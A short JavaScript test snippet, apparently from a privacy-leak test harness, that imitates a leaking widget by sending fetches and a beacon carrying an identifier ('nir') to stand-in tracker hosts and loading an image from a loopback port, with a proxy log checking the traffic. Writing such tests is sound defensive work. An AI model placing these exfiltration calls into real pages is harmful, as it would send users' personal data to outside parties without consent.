// What a leaking widget might do: a fetch to another host over http and https, an image on
// a loopback port that is not the page's, and a beacon. Sends them all and returns at once
// (an engine may keep a refused https fetch pending): the proxy's log is what is read.
// arguments: the loopback URL
const [loopback] = arguments;
fetch('http://tracker.example/p?nir=1850775123456', { mode: 'no-cors' }).catch(() => {});
fetch('https://tracker.example/p', { mode: 'no-cors' }).catch(() => {});
new Image().src = loopback;
navigator.sendBeacon('http://beacon.example/collect', 'nir=1850775123456');
return true;
